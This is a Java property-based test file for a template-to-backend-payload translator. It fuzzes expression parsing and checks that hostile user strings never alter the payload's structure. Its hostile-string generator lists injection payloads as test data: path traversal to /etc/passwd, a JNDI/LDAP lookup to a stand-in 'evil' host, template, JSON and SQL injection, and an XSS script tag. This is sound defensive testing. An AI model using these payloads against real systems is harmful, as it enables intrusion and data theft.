package io.tempera.template;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.fail;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.tempera.models.ModelSpec;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;

/**
 * The expression language and the translation of (template, tier, parameters) into the backend
 * payload: expressions parse or say why, evaluate to a scalar or say why; translation of valid
 * requests is deterministic, writes values of the declared types, and takes hostile strings as
 * string values only, never as structure.
 */
class TemplateTranslationPropertyTest {

  private static final ObjectMapper JSON = new ObjectMapper();
  private static final TemplateRegistry REGISTRY =
      new TemplateRegistry(Path.of("../templates"), JSON, 0);
  private static final TemplateTranslator TRANSLATOR = new TemplateTranslator(JSON);

  // ----- expressions

  @Property(tries = 300)
  void expressionsParseOrSayWhyAndEvaluateToAScalarOrSayWhy(
      @ForAll("expressionText") String source, @ForAll("scalarLists") List<Object> values) {
    Expression expression;
    try {
      expression = Expression.parse(source);
    } catch (Expression.ExpressionException e) {
      assertThat(e.getMessage()).contains("at position");
      return;
    } catch (Throwable e) {
      fail("parse(" + shorten(source) + ") threw " + e);
      return;
    }
    Map<String, Object> given = new LinkedHashMap<>();
    for (int i = 0; i < expression.names().size(); i++) {
      given.put(expression.names().get(i), values.isEmpty() ? 1L : values.get(i % values.size()));
    }
    Object first = evaluate(expression, given);
    Object second = evaluate(expression, given);
    assertThat(second).isEqualTo(first);
    if (first != null && !(first instanceof Class<?>)) {
      assertThat(first).isInstanceOfAny(Long.class, Double.class, Boolean.class, String.class);
      if (first instanceof Double d) {
        assertThat(d).as("%s over %s", source, given).isFinite();
      }
    }
  }

  private static Object evaluate(Expression expression, Map<String, Object> values) {
    try {
      return expression.evaluate(values);
    } catch (Expression.ExpressionException e) {
      return e.getClass(); // the project's own error: compared by kind
    } catch (Throwable e) {
      return fail("evaluate(" + shorten(expression.toString()) + ", " + values + ") threw " + e);
    }
  }

  @Provide
  Arbitrary<String> expressionText() {
    Arbitrary<String> grammar = Arbitraries.recursive(this::atoms, this::compound, 0, 4);
    return Arbitraries.oneOf(
        grammar,
        grammar,
        grammar,
        TemplateParserFuzzPropertyTest.expressions(),
        Arbitraries.strings().withChars("()+-*/%?:!&|<>=' .,0123456789abtier").ofMaxLength(30),
        Arbitraries.strings().all().ofMaxLength(20));
  }

  private Arbitrary<String> atoms() {
    return Arbitraries.oneOf(
        Arbitraries.of("a", "b", "tier", "true", "false", "'x'", "''", "'draft'"),
        Arbitraries.longs().between(0, Long.MAX_VALUE).map(String::valueOf),
        Arbitraries.of("0", "0.5", "2.0", "1" + "0".repeat(400) + ".0", "9223372036854775807"));
  }

  private Arbitrary<String> compound(Arbitrary<String> inner) {
    Arbitrary<String> op =
        Arbitraries.of("+", "-", "*", "/", "%", "<", "<=", ">", ">=", "==", "!=", "&&", "||");
    return Arbitraries.oneOf(
        Combinators.combine(inner, op, inner).as((l, o, r) -> l + " " + o + " " + r),
        inner.map(e -> "(" + e + ")"),
        inner.map(e -> "-" + e),
        inner.map(e -> "!" + e),
        Combinators.combine(inner, inner, inner).as((c, y, n) -> c + " ? " + y + " : " + n),
        Combinators.combine(Arbitraries.of("min", "max", "round", "floor", "ceil", "abs"), inner)
            .as((f, e) -> f + "(" + e + ")"),
        Combinators.combine(Arbitraries.of("min", "max"), inner, inner)
            .as((f, x, y) -> f + "(" + x + ", " + y + ")"));
  }

  @Provide
  Arbitrary<List<Object>> scalarLists() {
    return Arbitraries.oneOf(
            Arbitraries.longs().map(Object.class::cast),
            Arbitraries.of(Long.MAX_VALUE, Long.MIN_VALUE, 0L, -1L).map(Object.class::cast),
            Arbitraries.doubles().between(-1e300, 1e300).map(Object.class::cast),
            Arbitraries.of(0.0, -0.0, 1e308, Double.MIN_VALUE).map(Object.class::cast),
            Arbitraries.strings().ofMaxLength(8).map(Object.class::cast),
            Arbitraries.of(true, false).map(Object.class::cast))
        .injectNull(0.1)
        .list()
        .ofMaxSize(3);
  }

  // ----- translation of valid requests

  record ShippedRequest(FunctionTemplate template, QualityTier tier, Map<String, Object> params) {
    @Override
    public String toString() {
      return template.id() + " at " + tier + " <- " + params;
    }
  }

  @Property(tries = 300)
  void validRequestsTranslateDeterministicallyToValuesOfTheDeclaredTypes(
      @ForAll("shippedRequests") ShippedRequest request) {
    assertThat(ParameterValidator.validate(request.template(), request.params())).isEmpty();
    TemplateTranslator.Translation first = translate(request);
    TemplateTranslator.Translation second = translate(request);
    if (first == null) {
      assertThat(second).isNull();
      return;
    }
    assertThat(second.payload()).isEqualTo(first.payload());
    assertThat(second.fileInputs()).isEqualTo(first.fileInputs());

    FunctionTemplate template = request.template();
    assertSameShape(template, first.payload());
    Map<GraphTarget, Object> tier =
        template.qualityParameters().getOrDefault(request.tier(), Map.of());
    for (ParameterMapping mapping : template.mappings()) {
      JsonNode written = at(template, first.payload(), mapping.target());
      if (written == null) {
        continue;
      }
      if (mapping.type().equals(ParameterMapping.COMPUTED)) {
        assertThat(written.isValueNode()).as("%s wrote %s", mapping.target(), written).isTrue();
        if (written.isDouble()) {
          assertThat(Double.isFinite(written.doubleValue())).isTrue();
        }
        continue;
      }
      boolean onlyWriter =
          template.mappings().stream().filter(m -> m.target().equals(mapping.target())).count()
              == 1;
      if (!onlyWriter
          || mapping.when() != null
          || !request.params().containsKey(mapping.parameter())
          || (tier.containsKey(mapping.target())
              && !request.params().containsKey(mapping.parameter()))) {
        continue;
      }
      Object given = request.params().get(mapping.parameter());
      ParameterSpec spec = template.parameters().get(mapping.parameter());
      if (given == null) {
        assertThat(written.isNull()).isTrue();
      } else if (mapping.type().equals(ParameterMapping.LOOKUP)) {
        assertThat(written).isEqualTo(JSON.valueToTree(mapping.table().get(String.valueOf(given))));
      } else if (mapping.type().equals(ParameterMapping.DIRECT)) {
        switch (spec.type()) {
          case "integer" -> assertThat(written.isIntegralNumber()).isTrue();
          case "number" -> assertThat(written.isNumber()).isTrue();
          case "boolean" -> assertThat(written.isBoolean()).isTrue();
          default -> assertThat(written.isTextual()).isTrue();
        }
        if (spec.type().equals("string")) {
          assertThat(written.textValue()).isEqualTo(given);
        }
      }
    }
  }

  /** A request as the API lets it through: only declared parameters, each valid for its spec. */
  @Provide
  Arbitrary<ShippedRequest> shippedRequests() {
    List<FunctionTemplate> templates = REGISTRY.functions();
    return Combinators.combine(Arbitraries.of(templates), Arbitraries.of(QualityTier.values()))
        .flatAs((template, tier) -> {
          List<Arbitrary<Map.Entry<String, Object>>> entries = new ArrayList<>();
          for (ParameterSpec spec : template.parameters().values()) {
            entries.add(validEntry(spec));
          }
          return Combinators.combine(entries)
              .as(list -> {
                Map<String, Object> params = new LinkedHashMap<>();
                list.stream()
                    .filter(e -> e.getKey() != null)
                    .forEach(e -> params.put(e.getKey(), e.getValue()));
                return new ShippedRequest(template, tier, params);
              });
        })
        .filter(r -> ParameterValidator.validate(r.template(), r.params()).isEmpty());
  }

  /** Left out (null key), or a valid value; null when nullable. */
  private static Arbitrary<Map.Entry<String, Object>> validEntry(ParameterSpec spec) {
    Arbitrary<Object> value = validValue(spec, hostile());
    if (spec.nullable()) {
      value = value.injectNull(0.1);
    }
    Arbitrary<Map.Entry<String, Object>> given =
        value.map(v -> new java.util.AbstractMap.SimpleEntry<String, Object>(spec.name(), v));
    Map.Entry<String, Object> leftOut = new java.util.AbstractMap.SimpleEntry<>(null, null);
    return Arbitraries.oneOf(given, given, given, Arbitraries.just(leftOut));
  }

  static Arbitrary<Object> validValue(ParameterSpec spec, Arbitrary<String> text) {
    if (!spec.enumValues().isEmpty()) {
      return Arbitraries.of(spec.enumValues());
    }
    double lo = spec.min() == null ? -1e12 : spec.min();
    double hi = spec.max() == null ? 1e12 : spec.max();
    return switch (spec.type()) {
      case "integer" ->
          Arbitraries.longs()
              .between((long) Math.ceil(lo), (long) Math.floor(hi))
              .map(Object.class::cast);
      case "number" ->
          Arbitraries.oneOf(
              Arbitraries.doubles().between(lo, hi).map(Object.class::cast),
              Arbitraries.of(lo, hi).map(Object.class::cast));
      case "boolean" -> Arbitraries.of(true, false).map(Object.class::cast);
      case "image" ->
          Arbitraries.of("uploads/a.png", "uploads/my photo.png", "outputs/x-1_2.webp")
              .map(Object.class::cast);
      default -> text.map(Object.class::cast);
    };
  }

  // ----- hostile strings

  @Property(tries = 300)
  void hostileStringsAreStringValuesNeverStructure(
      @ForAll("freeTextRequests") ShippedRequest request, @ForAll("hostileText") String hostile) {
    String name = freeText(request.template()).get(0);
    Map<String, Object> safe = new LinkedHashMap<>(request.params());
    safe.put(name, "SAFE");
    Map<String, Object> attacked = new LinkedHashMap<>(request.params());
    attacked.put(name, hostile);
    if (!ParameterValidator.validate(request.template(), attacked).isEmpty()) {
      return; // the API refuses it before any translation (too long)
    }
    TemplateTranslator.Translation a =
        translate(new ShippedRequest(request.template(), request.tier(), safe));
    TemplateTranslator.Translation b =
        translate(new ShippedRequest(request.template(), request.tier(), attacked));
    assertThat(b == null).isEqualTo(a == null);
    if (a == null) {
      return;
    }
    sameStructure(a.payload(), b.payload(), "$");
    assertThat(b.fileInputs()).isEqualTo(a.fileInputs());
    assertThat(containsText(b.payload(), hostile)).isTrue();
  }

  @Provide
  Arbitrary<ShippedRequest> freeTextRequests() {
    return shippedRequests().filter(r -> !freeText(r.template()).isEmpty());
  }

  /** The string parameters without choices: where a person's words go. */
  private static List<String> freeText(FunctionTemplate template) {
    return template.parameters().values().stream()
        .filter(s -> s.type().equals("string") && s.enumValues().isEmpty())
        .map(ParameterSpec::name)
        .toList();
  }

  @Provide
  Arbitrary<String> hostileText() {
    return hostile();
  }

  static Arbitrary<String> hostile() {
    return Arbitraries.oneOf(
        Arbitraries.of(
            "../../../etc/passwd",
            "..\\..\\windows\\win.ini",
            "/etc/passwd",
            "${jndi:ldap://evil/x}",
            "${prompt}",
            "#{1+1}",
            "{{7*7}}",
            "\", \"class_type\": \"Evil\", \"x\": \"",
            "{\"999\": {\"class_type\": \"SaveImage\", \"inputs\": {}}}",
            "[\"1\", 0]",
            "1.inputs.width",
            "$gradio",
            "tier",
            "null",
            "true",
            "42",
            "\u0000\u001f\u007f",
            "\uD83D\uDE00\u202E\u200B",
            "'; DROP TABLE x; --",
            "<script>alert(1)</script>"),
        Arbitraries.strings().all().ofMaxLength(40),
        Arbitraries.integers()
            .between(1000, 10_500)
            .map(n -> "{\"a\":[".repeat(n / 6))
            .map(s -> s.length() > 10_000 ? s.substring(0, 10_000) : s));
  }

  // ----- helpers

  private static TemplateTranslator.Translation translate(ShippedRequest request) {
    ModelSpec model = REGISTRY.model(request.template(), request.tier()).orElse(null);
    try {
      return TRANSLATOR.translate(
          request.template(), request.tier(), request.params(), "project-1", model);
    } catch (Expression.ExpressionException | TemplateTranslator.ModelFileMissing expected) {
      return null; // the project's own errors
    } catch (Throwable e) {
      return fail(request + " threw " + e, e);
    }
  }

  /** The payload has the template graph's nodes, class types and input names, nothing more. */
  private static void assertSameShape(FunctionTemplate template, JsonNode payload) {
    switch (template.backendType()) {
      case "comfyui" -> {
        assertThat(fieldNames(payload)).isEqualTo(fieldNames(template.graph()));
        for (String node : fieldNames(payload)) {
          assertThat(payload.get(node).get("class_type"))
              .isEqualTo(template.graph().get(node).get("class_type"));
          assertThat(fieldNames(payload.get(node).get("inputs")))
              .isEqualTo(fieldNames(template.graph().get(node).get("inputs")));
        }
      }
      case "script" ->
          assertThat(template.parameters().keySet())
              .containsAll(fieldNames(payload.get("parameters")));
      default -> {
        List<String> allowed = new ArrayList<>(template.parameters().keySet());
        template.mappings().forEach(m -> allowed.add(m.target().input()));
        template
            .qualityParameters()
            .values()
            .forEach(t -> t.keySet().forEach(g -> allowed.add(g.input())));
        template
            .variants()
            .forEach(v ->
                v.qualityParameters()
                    .values()
                    .forEach(t -> t.keySet().forEach(g -> allowed.add(g.input()))));
        assertThat(allowed).containsAll(fieldNames(payload.get("inputs")));
      }
    }
  }

  private static JsonNode at(FunctionTemplate template, JsonNode payload, GraphTarget target) {
    return switch (template.backendType()) {
      case "comfyui" -> payload.path(target.node()).path("inputs").get(target.input());
      case "gradio" -> payload.path("inputs").get(target.input());
      default -> null;
    };
  }

  /** Same keys and array sizes everywhere; where they differ, both are strings. */
  private static void sameStructure(JsonNode a, JsonNode b, String path) {
    if (a.isTextual() || b.isTextual()) {
      assertThat(a.getNodeType()).as(path).isEqualTo(b.getNodeType());
      return;
    }
    assertThat(b.getNodeType()).as(path).isEqualTo(a.getNodeType());
    if (a.isObject()) {
      assertThat(fieldNames(b)).as(path).isEqualTo(fieldNames(a));
      for (String key : fieldNames(a)) {
        sameStructure(a.get(key), b.get(key), path + "." + key);
      }
    } else if (a.isArray()) {
      assertThat(b.size()).as(path).isEqualTo(a.size());
      for (int i = 0; i < a.size(); i++) {
        sameStructure(a.get(i), b.get(i), path + "[" + i + "]");
      }
    } else {
      assertThat(b).as(path).isEqualTo(a);
    }
  }

  private static boolean containsText(JsonNode node, String text) {
    if (node.isTextual()) {
      return node.textValue().contains(text);
    }
    for (JsonNode child : node) {
      if (containsText(child, text)) {
        return true;
      }
    }
    return false;
  }

  private static List<String> fieldNames(JsonNode node) {
    List<String> out = new ArrayList<>();
    for (Iterator<String> it = node.fieldNames(); it.hasNext(); ) {
      out.add(it.next());
    }
    return out;
  }

  private static String shorten(String s) {
    return s.length() > 120 ? s.substring(0, 120) + "…(" + s.length() + ")" : s;
  }
}
